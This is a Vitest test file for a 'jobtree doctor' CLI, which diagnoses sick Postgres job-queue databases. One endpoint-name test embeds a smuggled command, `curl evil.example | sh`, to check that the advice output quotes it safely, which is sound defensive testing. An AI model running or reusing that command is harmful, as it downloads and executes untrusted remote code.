/** `jobtree doctor`: databases that are really sick, each with what it says, and a healthy one. */
import { execFile } from 'node:child_process';
import { readdirSync } from 'node:fs';
import { cp, mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import pg from 'pg';
import { afterAll, beforeAll, expect, inject, it, onTestFinished, vi } from 'vitest';
import { readConfig } from '../../src/config/config.ts';
import { migrate, migrationsDirectory } from '../../src/db/migrate.ts';
import { examineEverything } from '../../src/doctor/everything.ts';
import type { Finding } from '../../src/doctor/finding.ts';
import { type EmbeddedPostgres, startEmbeddedPostgres } from '../../src/embedded/start.ts';
import { example } from '../support/documentation.ts';
import { addEndpoint } from '../support/endpoints.ts';
import { eventually } from '../support/eventually.ts';
import { freePort, startServer } from '../support/server.ts';
import { run, startOnTerminal } from './program.ts';

/** Of its own: that of the other tests is not set as one should be that keeps data. */
let postgres: EmbeddedPostgres;
let folder: string;
let admin: pg.Client;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'jobtree-doctor-'));
  postgres = await startEmbeddedPostgres({
    dataDirectory: folder,
    settings: { max_prepared_transactions: '4', track_commit_timestamp: 'on', shared_buffers: '16MB' },
  });
  await migrate({ url: postgres.url });
  admin = await connect(new URL(postgres.url.replace(/[^/]*$/, 'postgres')).href);
  await admin.query('alter database jobtree rename to healthy');
});
afterAll(async () => {
  await admin?.end();
  await postgres?.stop();
  for (const path of [postgres?.dataDirectory, folder])
    if (path) await rm(path, { recursive: true, force: true });
});

interface Patient {
  readonly url: string;
  readonly client: pg.Client;
}

let last = 0;
/** A migrated database, with a session that the test makes it sick with. */
async function createPatient(name = `patient_${++last}`): Promise<Patient> {
  await admin.query(`create database ${name} template healthy`);
  const url = postgres.url.replace(/[^/]*$/, name);
  const client = await connect(url);
  onTestFinished(async () => {
    await client.end();
    await admin.query(`drop database ${name} with (force)`);
  });
  return { url, client };
}

async function connect(connectionString: string): Promise<pg.Client> {
  const client = new pg.Client({ connectionString, application_name: 'patient' });
  client.on('error', () => undefined);
  await client.connect();
  return client;
}

const noServer = 'http://127.0.0.1:9/graphql';

async function findings(
  url: string,
  options: { env?: Record<string, string>; patienceMs?: number; apiUrl?: string } = {},
): Promise<Finding[]> {
  const found: Finding[] = [];
  await examineEverything(
    {
      config: readConfig({ DATABASE_URL: url, ...options.env }),
      databaseUrl: url,
      apiUrl: options.apiUrl ?? noServer,
      isApiNamed: options.apiUrl !== undefined,
      patienceMs: options.patienceMs ?? 300_000,
    },
    (finding) => found.push(finding),
  );
  return found;
}

/** What is not well, without that no server runs. */
async function complaints(...args: Parameters<typeof findings>): Promise<Record<string, Finding>> {
  const bad = (await findings(...args)).filter(({ status, check }) => status !== 'ok' && check !== 'servers');
  return Object.fromEntries(bad.map((finding) => [finding.check, finding]));
}

async function serve(url: string, env: Record<string, string> = {}) {
  const server = await startServer(url, env);
  onTestFinished(() => server.close());
  return server;
}

/** Takes an item of a new job, and gives the lease's id. */
async function claim({ client }: Patient): Promise<string> {
  await client.query(
    `select jobtree.create_job('{"type": "letter", "items": [{"payload": 1}], "sealed": true}')`,
  );
  const { rows } = await client.query(
    `select lease_id from jobtree.claim_items('{postman}', '{letter}', '{1}')`,
  );
  return rows[0].lease_id;
}

it('reports a healthy installation as healthy, with any options', async () => {
  const patient = await createPatient();
  const redisUrl = inject('redisUrl');
  const env = redisUrl === undefined ? {} : { REDIS_URL: redisUrl };
  const server = await serve(patient.url, env);
  await claim(patient);
  await eventually(async () => {
    const { rows } = await patient.client.query('select from jobtree.progress_delta');
    expect(rows).toEqual([]);
  });
  const found = await findings(patient.url, { env, apiUrl: server.url });
  expect(found.filter(({ status }) => status !== 'ok')).toEqual([]);
  const checks = new Set(found.map(({ check }) => check));
  for (const check of ['postgres', 'settings', 'clocks', 'server', 'leases', 'folds', 'callbacks'])
    expect(checks).toContain(check);
  expect(checks.has('redis')).toBe(redisUrl !== undefined);
});

it('asks the server whose settings it has, and no other one', async () => {
  const patient = await createPatient();
  const { port } = new URL((await serve(patient.url)).url);
  const env = { DATABASE_URL: patient.url, JOBTREE_URL: undefined, JOBTREE_PORT: port };
  const { stdout } = await run(['doctor', '--json'], { env });
  const found = stdout
    .trim()
    .split('\n')
    .map((line): Finding => JSON.parse(line));
  expect(found.find(({ check }) => check === 'server')?.message).toContain(
    `http://127.0.0.1:${port}/graphql says: ok`,
  );
});

it('matches the documented example: a database whose server died', async () => {
  const patient = await createPatient('jobtree');
  const lease = await claim(patient);
  await patient.client.query(
    `update jobtree.lease set check_at = now() - interval '2 hours', deadlines = array[now() - interval '2 hours'] where id = $1`,
    [lease],
  );
  await patient.client.query(`update jobtree.watch set swept_at = now() - interval '2 hours'`);
  const documented = example('doctor.md', 'sick');
  const env = { DATABASE_URL: patient.url, JOBTREE_URL: undefined };
  const { code, stdout, stderr } = await run(['doctor'], { env });
  expect({ code, stderr }).toEqual({ code: 8, stderr: '' });
  const withoutFigures = (text: string) =>
    text
      .replace(/\d{4}-\d\d-\d\dT[\d:.]+Z/g, 'TIME')
      .replace(/\d+(,\d{3})*(\.\d+)?/g, 'N')
      .split('\n')
      .filter((line) => !/^(ok .*|\$.*|…)$|^\S+ +server /.test(line));
  expect(withoutFigures(stdout)).toEqual(withoutFigures(documented));
});

it('reports that Postgres is missing, and checks the rest', async () => {
  const env = {
    DATABASE_URL: `postgresql://127.0.0.1:${await freePort()}/none`,
    REDIS_URL: `redis://127.0.0.1:${await freePort()}`,
  };
  const { code, stdout } = await run(['doctor', '--json', '--url', noServer], { env });
  expect(code).toBe(5);
  const lines = stdout.trim().split('\n');
  expect(lines.map((line) => JSON.parse(line))).toEqual([
    {
      check: 'postgres',
      status: 'sick',
      message: expect.stringMatching(/^Postgres can't be reached: .*ECONNREFUSED/),
      since: null,
      advice: expect.stringContaining('Bring it back'),
    },
    expect.objectContaining({
      check: 'server',
      status: 'warning',
      message: `No server answers at ${noServer}.`,
    }),
    expect.objectContaining({
      check: 'redis',
      status: 'warning',
      message: expect.stringMatching(/ECONNREFUSED/),
    }),
  ]);
});

it('creates no embedded Postgres', async () => {
  const env = { DATABASE_URL: '', JOBTREE_DATA_DIR: join(folder, 'nothing') };
  const { code, stdout, stderr } = await run(['doctor'], { env });
  expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
  expect(stderr).toMatch(/^jobtree: There is no embedded Postgres in .*, and DATABASE_URL is not set/);
  // Whoever names a server may expect the doctor to ask that alone.
  const named = await run(['doctor', '--url', noServer], { env });
  expect(named).toMatchObject({ code: 1, stdout: '' });
  expect(named.stderr.replaceAll(/\s+/g, ' ')).toMatch(
    /^jobtree: doctor reads the database itself; --url only says which server to ask as well\. There is no embedded Postgres in /,
  );
});

it('reports what a role behind a pooler has to set itself', async () => {
  const patient = await createPatient();
  const env = { JOBTREE_DIRECT_DATABASE_URL: patient.url };
  const found = (await findings(patient.url, { env })).filter(({ check }) => check === 'pooler');
  expect(found.map(({ message }) => message.split(':')[0])).toEqual([
    'lock_timeout is not set on the role',
    'jit is on for the role',
  ]);
  const name = new URL(patient.url).pathname.slice(1);
  await patient.client.query(
    `alter database ${name} set lock_timeout = '1s'; alter database ${name} set jit = off`,
  );
  expect(await complaints(patient.url, { env })).toEqual({});
});

it('reports a prepared transaction that nobody ends', async () => {
  const { url, client } = await createPatient();
  await client.query(
    `begin; insert into jobtree.progress_delta (root_id, job_id) values (gen_random_uuid(), gen_random_uuid())`,
  );
  await client.query(`prepare transaction 'forgotten'`);
  onTestFinished(async () => void (await client.query(`rollback prepared 'forgotten'`)));
  const { prepared } = await complaints(url, { patienceMs: 1 });
  expect(prepared).toMatchObject({ status: 'sick', since: expect.any(Date) });
  expect(prepared?.message).toContain(`The transaction 'forgotten' of postgres has been prepared`);
  expect(prepared?.advice).toContain(`rollback prepared 'forgotten'`);
  expect(await complaints(url)).toEqual({});
});

it('reports an open snapshot, and who waits for a lock of its session', async () => {
  const patient = await createPatient();
  const { url, client } = patient;
  const lease = await claim(patient);
  await client.query('begin isolation level repeatable read');
  await client.query('select from jobtree.lease where id = $1 for update', [lease]);
  const pid = (await client.query('select pg_backend_pid() as pid')).rows[0].pid;
  const waiting = await connect(url);
  const waits = waiting.query('delete from jobtree.lease where id = $1', [lease]).catch(() => undefined);
  await eventually(async () => {
    const { rows } = await admin.query('select from pg_locks where not granted and waitstart is not null');
    expect(rows).toHaveLength(1);
  });
  const found = await findings(url, { patienceMs: 1 });
  const [transactions] = found.filter(({ check }) => check === 'transactions');
  const [locks] = found.filter(({ check }) => check === 'locks');
  expect(transactions?.message).toContain(
    `Session ${pid} (patient, role postgres, 127.0.0.1, idle in transaction, last:`,
  );
  expect(transactions?.message).toContain(
    'no row that died since then can be removed; it has locks on lease.',
  );
  expect(transactions?.status).toBe('sick');
  expect(locks?.message).toMatch(new RegExp(`a lock that session ${pid} holds`));
  await client.query('rollback');
  await waits;
  await waiting.end();
});

it('reports that autovacuum is off, and the dead rows that it leaves', async () => {
  const { url, client } = await createPatient();
  const set = (text: string) => admin.query(text).then(() => admin.query('select pg_reload_conf()'));
  await set('alter system set autovacuum = off');
  onTestFinished(async () => void (await set('alter system reset autovacuum')));
  await eventually(async () => {
    expect((await client.query('show autovacuum')).rows).toEqual([{ autovacuum: 'off' }]);
  });
  await client.query('alter table jobtree.progress_delta set (autovacuum_vacuum_threshold = 10)');
  await client.query(
    'insert into jobtree.progress_delta (root_id, job_id) select gen_random_uuid(), gen_random_uuid() from generate_series(1, 2000)',
  );
  await client.query('delete from jobtree.progress_delta');
  await client.query('select pg_stat_force_next_flush()');
  const { settings, 'dead-rows': rows } = await complaints(url);
  expect(settings).toMatchObject({ status: 'sick', message: expect.stringContaining('autovacuum is off') });
  expect(rows).toMatchObject({
    status: 'sick',
    message: expect.stringMatching(
      /^progress_delta has 2,000 dead rows and 0 live ones \(\d+ MB\), and was never vacuumed\.$/,
    ),
    advice: expect.stringContaining('vacuum jobtree.progress_delta;'),
  });
});

it('reports a setting that risks acknowledged data', async () => {
  const { url, client } = await createPatient();
  await client.query(`alter database ${new URL(url).pathname.slice(1)} set synchronous_commit = off`);
  expect((await complaints(url)).settings?.message).toContain('synchronous_commit is off');
});

it('reports a missing migration, an empty database, and one of a newer jobtree', async () => {
  const directory = await mkdtemp(join(tmpdir(), 'jobtree-migrations-'));
  onTestFinished(() => rm(directory, { recursive: true }));
  const last =
    readdirSync(migrationsDirectory)
      .filter((name) => /^\d/.test(name))
      .sort()
      .at(-1) ?? '';
  await cp(join(migrationsDirectory), directory, { recursive: true, filter: (path) => !path.includes(last) });
  const { url, client } = await createPatient();
  await client.query('drop schema jobtree cascade');
  expect((await complaints(url)).migrations?.message).toMatch(
    /^\d+ migrations of this version are missing: /,
  );
  await migrate({ url, directory });
  const { migrations, ...others } = await complaints(url);
  expect(migrations).toMatchObject({ status: 'sick', advice: expect.stringContaining('jobtree migrate') });
  expect(migrations?.message).toBe(`1 migration of this version is missing: ${last}.`);
  expect(others).toEqual({});
  await migrate({ url });
  await client.query(
    `insert into jobtree._prisma_migrations (id, checksum, migration_name, finished_at) values ('1', '', '30000101000000_future_breaks_9999_0', now())`,
  );
  expect((await complaints(url)).migrations?.message).toContain('was migrated by a newer jobtree');
});

it('reports a Redis that is away, and one that no server uses', async () => {
  const { url } = await createPatient();
  const away = await complaints(url, { env: { REDIS_URL: `redis://127.0.0.1:${await freePort()}` } });
  expect(away.redis).toMatchObject({ status: 'warning', message: expect.stringMatching(/ECONNREFUSED/) });
  const redisUrl = inject('redisUrl');
  if (redisUrl === undefined) return;
  await serve(url);
  const { redis } = await complaints(url, { env: { REDIS_URL: redisUrl } });
  expect(redis?.message).toContain('no server passes notifications on to it');
});

it('reports deltas that remain uncounted, beside a server', async () => {
  const patient = await createPatient();
  const server = await serve(patient.url);
  const { rows } = await patient.client.query(`select job_id from jobtree.create_job('{"type": "letter"}')`);
  const root = [rows[0].job_id];
  await patient.client.query('begin');
  await patient.client.query('select from jobtree.tree where root_id = $1 for update', root);
  const other = await connect(patient.url);
  await other.query('insert into jobtree.progress_delta (root_id, job_id) values ($1, $1)', root);
  const { folds } = await complaints(patient.url, { apiUrl: server.url });
  expect(folds).toMatchObject({
    status: 'sick',
    message: 'Not counted: 1 delta of progress. Their trees seem to stand still.',
    since: expect.any(Date),
    advice: expect.stringContaining('See transactions and locks'),
  });
  await patient.client.query('rollback');
  await other.end();
});

it('reports a worker that has missed a heartbeat, beside a server', async () => {
  const patient = await createPatient();
  const startedAt = new Date();
  await serve(patient.url);
  // It has looked: from then on it sees no gap.
  const sweptAt = async () =>
    (await patient.client.query<{ swept_at: Date }>('select swept_at from jobtree.watch')).rows[0]?.swept_at;
  await expect.poll(async () => ((await sweptAt()) ?? 0) > startedAt).toBe(true);
  const lease = await claim(patient);
  await patient.client.query(`update jobtree.watch set resumed_at = now() - interval '1 day'`);
  await patient.client.query(
    `update jobtree.lease set deadlines = array[now() + interval '80 seconds'] where id = $1`,
    [lease],
  );
  expect((await complaints(patient.url)).heartbeats).toMatchObject({
    status: 'warning',
    message: 'The workers of 1 lease have missed a heartbeat or two: postman.',
  });
});

it('reports a type with ready items that no worker claims', async () => {
  const patient = await createPatient();
  await serve(patient.url);
  const add = (type: string) =>
    patient.client.query('select jobtree.create_job($1)', [{ type, items: [{ payload: 1 }] }]);
  await add('resise');
  await add('paused');
  await add('fresh');
  await patient.client.query(
    `insert into jobtree.queue (type, paused) values ('paused', true) on conflict (type) do update set paused = true`,
  );
  await patient.client.query(
    `update jobtree.queue_entry set ready_at = now() - interval '6 minutes' where type <> 'fresh'`,
  );
  expect((await complaints(patient.url)).workers).toMatchObject({
    status: 'warning',
    message: 'Items have been ready for 5 min or longer, and no worker asks for their types: resise.',
    since: expect.any(Date),
  });
  // What strangers call their types is as wide as it is shown.
  for (const n of [1, 2, 3]) await add(`${n}${'\u0007'.repeat(4)}`);
  await patient.client.query(
    `update jobtree.queue_entry set ready_at = now() - interval '6 minutes' where type like '_\u0007%'`,
  );
  const terminal = startOnTerminal(['doctor'], { DATABASE_URL: patient.url, NO_COLOR: '1' });
  const { stdout } = await terminal.ended;
  expect(stdout).toContain(String.raw`1\u0007\u0007\u0007\u0007`);
  expect(stdout.split(/\r?\n/).filter((line) => line.length > 80)).toEqual([]);
  // Somebody holds one of it.
  await patient.client.query(`delete from jobtree.queue_entry where type like '_\u0007%'`);
  await add('resise');
  await patient.client.query(`select from jobtree.claim_items('{postman}', '{resise}', '{1}')`);
  expect((await complaints(patient.url)).workers).toBeUndefined();
});

it('reports work that is overdue while no server runs', async () => {
  const { url, client } = await createPatient();
  await client.query(`update jobtree.watch set swept_at = now() - interval '1 hour'`);
  await client.query(
    `select jobtree.create_job('{"type": "letter", "items": [{"payload": 1, "runAt": "2026-01-01T00:00:00Z"}]}')`,
  );
  await client.query(`update jobtree.queue_entry set run_at = now() - interval '1 minute'`);
  const { due, folds } = await complaints(url);
  expect(due?.message).toBe('Due, but not ready: 1 item in 1 range.');
  expect(folds?.message).toContain('Not counted: 1 delta of progress');
  const [servers] = (await findings(url)).filter(({ check }) => check === 'servers');
  expect(servers).toMatchObject({
    status: 'sick',
    message: expect.stringContaining('No server is running on this database'),
  });
});

it('reports a tree that nobody seals', async () => {
  const { url, client } = await createPatient();
  const { rows } = await client.query(`select job_id from jobtree.create_job('{"type": "upload"}')`);
  await client.query(`select from jobtree.fold_trees(array[$1::uuid], array[0])`, [rows[0].job_id]);
  expect(await complaints(url)).toEqual({});
  await client.query(`update jobtree.job set created_at = now() - interval '3 days'`);
  const { 'idle-trees': idle } = await complaints(url);
  expect(idle?.message).toContain(
    `Job:${rows[0].job_id} (upload) has nothing pending, and nothing was added for 3 days`,
  );
});

it('reports an endpoint that fails, that failed for good, and that is gone', async () => {
  const { url, client } = await createPatient();
  await addEndpoint(client, 'reports');
  const call = (changes: string) =>
    client.query(
      `insert into jobtree.callback_delivery (id, message_id, endpoint, event, body, created_at, ${changes.split('=')[0]}, attempts, history)
       values (gen_random_uuid(), gen_random_uuid(), 'reports', 'TREE', '{}', now(), ${changes.split('=')[1]}, 1,
         '[{"attempt": 1, "statusCode": 500, "error": "it answered 500"}]')`,
    );
  await call(`due_at=now() + interval '1 minute'`);
  expect((await complaints(url)).callbacks?.message).toBe(
    '1 callback to reports failed and will be tried again (it answered 500).',
  );
  await call('failed_at=now()');
  expect((await complaints(url)).callbacks).toMatchObject({
    status: 'sick',
    message: '1 callback to reports failed for good within a day (it answered 500).',
  });
  await client.query('update jobtree.callback_endpoint set gone_at = now()');
  expect((await complaints(url)).callbacks?.message).toContain('answered 410 (gone)');
});

it('advises nothing but its own commands, whatever a tenant has called an endpoint', async () => {
  const { url, client } = await createPatient();
  const name = "acme//it's `curl evil.example | sh` here";
  await addEndpoint(client, name);
  await client.query('update jobtree.callback_endpoint set gone_at = now()');
  const { advice = '' } = (await complaints(url)).callbacks ?? {};
  const commands = [...(advice ?? '').matchAll(/`([^`]+)`/g)].map(([, command = '']) => command);
  expect(commands).toEqual([
    expect.stringMatching(/^jobtree callback put '.*' URL$/),
    expect.stringMatching(/^jobtree callback delete '.*'$/),
  ]);
  const { stdout } = await promisify(execFile)('bash', [
    '-c',
    `${commands[1]?.replace('jobtree callback delete', 'printf %s')}`,
  ]);
  expect(stdout).toBe(name);
});

it('reports a replication slot that nobody uses', async () => {
  const { url } = await createPatient();
  await admin.query(`select pg_create_physical_replication_slot('standby', true)`);
  onTestFinished(async () => void (await admin.query(`select pg_drop_replication_slot('standby')`)));
  expect((await complaints(url)).slots?.message).toMatch(/^The replication slot standby is not used/);
});

it('reports a wrong clock', async () => {
  const { url } = await createPatient();
  const now = Date.now;
  vi.spyOn(Date, 'now').mockImplementation(() => now() + 3_600_000);
  expect((await complaints(url)).clocks).toMatchObject({
    status: 'sick',
    message: expect.stringMatching(/^This machine is (60|61) min ahead of Postgres\.$/),
  });
});

it('only reads, and waits for no lock', async () => {
  const { url, client } = await createPatient();
  await client.query('begin; lock table jobtree.lease in access exclusive mode');
  const { leases } = await complaints(url);
  expect(leases).toMatchObject({ status: 'warning', message: 'There was no answer in time.' });
  await client.query('rollback');
  const { rows } = await client.query(
    `select xact_commit + 0 as commits, tup_inserted + tup_updated + tup_deleted as changes from pg_stat_database where datname = current_database()`,
  );
  await findings(url);
  const after = await client.query(
    `select tup_inserted + tup_updated + tup_deleted as changes from pg_stat_database where datname = current_database()`,
  );
  expect(after.rows[0].changes).toEqual(rows[0].changes);
});
